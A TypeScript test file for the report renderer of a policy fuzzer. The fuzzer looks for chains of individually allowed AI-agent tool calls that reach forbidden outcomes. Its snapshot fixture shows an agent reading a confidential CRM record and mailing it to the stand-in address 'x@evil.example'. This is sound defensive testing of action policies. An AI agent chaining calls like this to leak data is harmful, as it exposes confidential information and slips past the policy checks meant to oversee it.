import { expect, it } from "vitest";
import { report } from "../../../test/builders/fuzz-report.js";
import { sarifRun } from "../../../test/builders/sarif-run.js";
import { render } from "./render.js";
import type { FuzzReport } from "./report.js";

it("prints a bypass as a chain of calls that reads like a story", () => {
  expect(render(report, "pretty", false)).toMatchInlineSnapshot(`
    "BYPASS confidentialLeaves: Confidential data leaves
      in the world office, 2 calls, each allowed

      1. agent-a in s1: crm.read(record: "r1")
         allow by crm/reads; reads data that carries \`confidential\`
      2. 1h later, agent-a in s1: mail.send(to: ["x@evil.example"], body: "a")
         allow by crm/reads; reads data that carries \`confidential\`

      data labelled \`confidential\` has reached \`x@evil.example\`
      crm/leaves would have stopped call 2 if \`carried.of(r).has("confidential")\` were true (policies/crm.policy.ts:12:9)
      written as a scenario that fails until this is mended: scenarios/fuzz/confidential-leaves.yaml

    no call of these was allowed, so the search says nothing about them
      files.zip  called in no world
      shell.run  stopped by action-gate/unlistedCommand

    warning: drugsLeave: Drugs leave the store
      a search without any policy does not reach this either: that it held says nothing

    warning: pays: A large payment goes through
      no such call was allowed; calls of its tools were stopped by pay/large

    held overspend: More than 500 are paid
    seen reads: Records are read

    world office: 1 subject, 2 sessions, 24 possible calls, waits of 1h and at most 2h in all
      complete to depth 3: every sequence of at most 3 calls and waits was tried, 77 positions reached
        of 5 rules that can be left out it took p/kept alone
      sha256:4567

    1 rule took no part in any decision: crm/neverAsked

    3 goals: 1 reached by calls that are each allowed
    812 decisions (allow 700, deny 112), 120 of them different, over 40 sequences at random and every short one, 12 turns with nothing new to ask; budget 5000, seed 1
    engine reference 0.1.0, replayed on opa-wasm 1.10.0 and opa 0.70.0, artifact sha256:0123
    again: policy fuzz --seed 1 --budget 5000
    "
  `);
});

it("says what a corpus had to do with it", () => {
  const digest = "sha256:89ab";
  const after = (corpus: FuzzReport["result"]["corpus"], from: "chain" | "variation" | null) => {
    const goals = report.result.goals.map((goal) => ({
      ...goal,
      bypass: goal.bypass && { ...goal.bypass, corpus: from },
    }));
    const result = { ...report.result, goals, ...(corpus === undefined ? {} : { corpus }) };
    const text = render({ ...report, result }, "pretty", false);
    const json = JSON.parse(render({ ...report, result }, "json", false));
    return {
      pretty: [...text.matchAll(/^.*corpus.*$/gm)].map(([line]) => line),
      json: [json.corpus, json.goals[0].bypass.corpus],
    };
  };
  expect(after(undefined, null)).toEqual({ pretty: [], json: [undefined, null] });
  const none = { chains: 0, played: 0, variations: 0, missing: 0, digest };
  expect(after(none, null)).toEqual({ pretty: ["the corpus is empty"], json: [none, null] });
  const one = { chains: 1, played: 1, variations: 40, missing: 0, digest };
  expect(after(one, "variation")).toEqual({
    pretty: [
      "  found near to a chain of the corpus: a mend of that chain alone leaves this open",
      "after 1 of 1 chain of a corpus and 40 variations, sha256:89ab",
    ],
    json: [one, "variation"],
  });
  const some = { chains: 3, played: 2, variations: 0, missing: 1, digest };
  expect(after(some, "chain").pretty).toEqual([
    "  found by a chain of the corpus",
    "after 2 of 3 chains of a corpus (1 of their calls is no more) and 0 variations, sha256:89ab",
  ]);
});

it("says what was tried without exception", () => {
  const certain = (...exhausted: FuzzReport["result"]["worlds"][number]["exhausted"]) => {
    const worlds = report.result.worlds.map((world) => ({ ...world, exhausted }));
    const text = render({ ...report, result: { ...report.result, worlds } }, "pretty", false);
    return /^world office.*\n((?: {2}(?!sha256).*\n)*)/m.exec(text)?.[1]?.split("\n").slice(0, -1);
  };
  const one = {
    ...{ goals: ["one"], calls: 24, depth: 1, everything: false, positions: 9 },
    ...{ waits: [3_600_000], expiries: [], took: [], outOf: 0 },
  };
  expect(certain(one)).toEqual([
    "  complete to depth 1: every sequence of at most 1 call or wait was tried, 9 positions reached",
  ]);
  expect(certain({ ...one, depth: 5, everything: true, positions: 28 })).toEqual([
    "  complete: all that calls lead to was tried, 28 positions reached",
  ]);
  const untried = "  not complete to any depth: not every call was tried";
  expect(certain({ ...one, depth: 0 })).toEqual([untried]);
  expect(certain()).toEqual([untried]);
  expect(
    certain(
      { ...one, calls: 9 },
      { ...one, goals: ["two", "three"], calls: 9, depth: 2, everything: true },
      { ...one, goals: ["four"], calls: 1, depth: 0 },
      { ...one, goals: ["five"], calls: 0, depth: 1, everything: true, positions: 1 },
    ),
  ).toEqual([
    "  one: complete to depth 1 over the 9 calls that bear on it: every sequence of at most 1 call or wait was tried, 9 positions reached",
    "  two, three: complete over the 9 calls that bear on them: all that calls lead to was tried, 9 positions reached",
    "  four: not complete to any depth: not every call was tried of the 1 call that bears on it",
    "  five: complete: no call bears on it",
  ]);
});

it("says which waits make a difference, and which rules it took", () => {
  const said = (slice: object) => {
    const worlds = report.result.worlds.map((world) => ({
      ...world,
      waits: [3_600_000, 7_200_000],
      exhausted: world.exhausted.map((before) => ({ ...before, ...slice })),
    }));
    const text = render({ ...report, result: { ...report.result, worlds } }, "pretty", false);
    return /at most (.*) was tried, .*\n((?: {4}.*\n)?)/.exec(text)?.slice(1);
  };
  expect(said({ took: [] })).toEqual([
    "3 calls and waits of 1h",
    "    of 5 rules that can be left out it took none\n",
  ]);
  expect(said({ waits: [], took: ["p/a", "p/b"] })).toEqual([
    "3 calls",
    "    of 5 rules that can be left out it took p/a, p/b alone\n",
  ]);
  expect(said({ waits: [3_600_000, 7_200_000], outOf: 1 })).toEqual(["3 calls and waits", ""]);
});

it("says how one could wait", () => {
  const waiting = (waits: readonly number[], expiries: readonly number[]) => {
    const worlds = report.result.worlds.map((world) => ({
      ...world,
      ...{ waits, expiries, exhausted: world.exhausted.map((slice) => ({ ...slice, waits, expiries })) },
    }));
    const text = render({ ...report, result: { ...report.result, worlds } }, "pretty", false);
    return /possible calls(.*)\n.*most (.*) was/.exec(text)?.slice(1);
  };
  expect(waiting([], [])).toEqual(["", "3 calls"]);
  expect(waiting([], [600_000, 1_800_000])).toEqual([
    ", waits until something expires after 10m, 30m",
    "3 calls and waits",
  ]);
  expect(waiting([3_600_000], [600_000])).toEqual([
    ", waits of 1h and at most 2h in all, waits until something expires after 10m, and anew from then on",
    "3 calls and waits",
  ]);
});

it("calls a goal that nothing reaches a failure where it is strict", () => {
  expect(render({ ...report, strict: true }, "pretty", false)).toContain("FAIL drugsLeave");
  expect(render(report, "pretty", false)).toContain("warning: drugsLeave");
});

it("says why that no label was lost says nothing", () => {
  const goals = report.result.goals.map((goal) => (goal.vacuous ? { ...goal, name: "laundering" } : goal));
  expect(render({ ...report, result: { ...report.result, goals } }, "pretty", false)).toContain(
    "warning: laundering: Drugs leave the store\n  no call took data along that the enforcer was not told of: that it held says nothing\n",
  );
});

it("prints every goal with its chain, or null", () => {
  const json = JSON.parse(render(report, "json", false));
  expect(json.goals[0].bypass.scenario).toBe("scenarios/fuzz/confidential-leaves.yaml");
  expect(json.goals[0].bypass.steps[0].subject).toBe("agent-a");
  expect(json.goals[1]).toEqual({
    name: "overspend",
    title: "More than 500 are paid",
    vacuous: false,
    bypass: null,
  });
  expect(json.worlds[0]).toMatchObject({ waits: [3_600_000], mostWaited: 7_200_000, expiries: [] });
  expect(json.worlds[0].exhausted).toEqual([
    {
      ...{ goals: ["confidentialLeaves"], calls: 24, depth: 3, everything: false, positions: 77 },
      ...{ waits: [3_600_000], expiries: [], took: ["p/kept"], outOf: 5 },
    },
  ]);
});

it("shows which calls of a chain are stopped, and counts them", () => {
  const goals = report.result.goals.map((goal) => {
    const [first, last] = goal.bypass?.steps ?? [];
    if (goal.bypass === null || first === undefined || last === undefined) return goal;
    const tried = {
      ...first,
      effect: "deny",
      rules: ["crm/tooSoon"],
      adds: "that it was tried is remembered",
    } as const;
    return { ...goal, bypass: { ...goal.bypass, steps: [tried, last] } };
  });
  const text = render({ ...report, result: { ...report.result, goals } }, "pretty", false);
  expect(text).toContain("in the world office, 2 calls, of which 1 stopped and the others allowed\n");
  expect(text).toContain(
    '1. agent-a in s1: crm.read(record: "r1")\n     stopped: deny by crm/tooSoon; that it was tried is remembered\n',
  );
  expect(text).toContain(
    "3 goals: 1 reached by calls that are allowed, some of them after others were stopped\n",
  );
});

it("speaks of events where something enters or leaves, and of what can", () => {
  const goals = report.result.goals.map((goal) => {
    const [first, last] = goal.bypass?.steps ?? [];
    if (goal.bypass === null || first === undefined || last === undefined) return goal;
    const steps = [
      { ...first, point: "input" as const },
      { ...last, point: "output" as const },
    ];
    return { ...goal, bypass: { ...goal.bypass, steps } };
  });
  const worlds = report.result.worlds.map((world) => ({ ...world, inputs: 1, outputs: 2 }));
  const neverAllowed = [
    { tool: "page.read", point: "input" as const, rules: [] },
    { tool: "reply.send", point: "output" as const, rules: [] },
    { tool: "web.get", rules: [] },
  ];
  const events: FuzzReport = { ...report, result: { ...report.result, goals, worlds, neverAllowed } };
  const text = render(events, "pretty", false);
  expect(text).toContain("in the world office, 2 events, each allowed\n");
  expect(text).toContain("  1. into s1 of agent-a: crm.read(");
  expect(text).toMatch(/^ {2}2\. .*later, out of \S+ of \S+: /m);
  expect(text).toContain("crm/leaves would have stopped event 2 if ");
  expect(text).toContain("2 sessions, 24 possible calls, 1 possible input, 2 possible outputs, waits of");
  expect(text).toContain("every sequence of at most 3 events and waits was tried");
  expect(text).toContain("3 goals: 1 reached by events that are each allowed\n");
  expect(text).toMatch(
    /^no event of these was allowed.*\n {2}page\.read +enters no world\n {2}reply\.send +leaves in no world\n {2}web\.get +called in no world$/m,
  );
  const json = JSON.parse(render(events, "json", false));
  expect(json.goals[0].bypass.steps.map((s: { point?: string }) => s.point)).toEqual(["input", "output"]);
  expect(json.worlds[0]).toMatchObject({ calls: 24, inputs: 1, outputs: 2 });
  expect(json.neverAllowed).toEqual(neverAllowed);
  const [found] = sarifRun(render(events, "sarif", false)).results ?? [];
  expect(found?.message.text).toContain("by 2 events in the world office, each allowed; ");
  expect(found?.codeFlows?.[0]?.threadFlows[0]?.locations?.[0]?.location?.message?.text).toMatch(
    /^into s1 of agent-a: crm\.read\(/,
  );
});

it("says that nothing can be reached where everything was tried, and only there", () => {
  const verdict = (everything: boolean) => {
    const worlds = report.result.worlds.map((w) => ({
      ...w,
      exhausted: w.exhausted.map((slice) => ({ ...slice, everything })),
    }));
    const goals = report.result.goals.map((goal) => ({ ...goal, bypass: null, vacuous: false }));
    return /3 goals: (.*)/.exec(
      render({ ...report, result: { ...report.result, worlds, goals } }, "pretty", false),
    )?.[1];
  };
  expect(verdict(true)).toBe("none can be reached in these worlds");
  expect(verdict(false)).toBe("none reached within the budget");
});

it("says why what must be possible was never seen, and nothing of it where the search ended before", () => {
  const said = (seen: boolean | null, calls: number, stoppedBy: readonly string[], strict = false) => {
    const sometimes = [{ name: "pays", title: "It pays", seen, calls, stoppedBy }];
    const text = render({ ...report, strict, result: { ...report.result, sometimes } }, "pretty", false);
    return /^.*pays: It pays$(\n {2}.*)?/m.exec(text)?.[0];
  };
  expect(said(true, 2, [])).toBe("seen pays: It pays");
  expect(said(null, 2, [])).toBe("not seen yet pays: It pays");
  expect(said(false, 2, [])).toBe("warning: pays: It pays\n  no such call was allowed");
  expect(said(false, 0, [], true)).toBe("FAIL pays: It pays\n  no world has such a call");
  expect(JSON.parse(render(report, "json", false)).sometimes).toEqual(report.result.sometimes);
});

it("names the rules that only just let a bypass pass, some of many, and says where there are none", () => {
  const [miss] = report.nearMisses.get("confidentialLeaves") ?? [];
  if (miss === undefined) throw new Error("there is a near miss");
  const shown = (count: number) => {
    const nearMisses = new Map([["confidentialLeaves", Array(count).fill(miss)]]);
    return render({ ...report, nearMisses }, "pretty", false);
  };
  expect(shown(0)).toContain("no rule was one condition away from stopping this");
  expect(shown(4).match(/would have stopped/g)).toHaveLength(4);
  expect(shown(6).match(/would have stopped/g)).toHaveLength(4);
  expect(shown(6)).toContain("and 2 more");
  expect(JSON.parse(render(report, "json", false)).goals[0].bypass.nearMisses).toEqual([miss]);
});
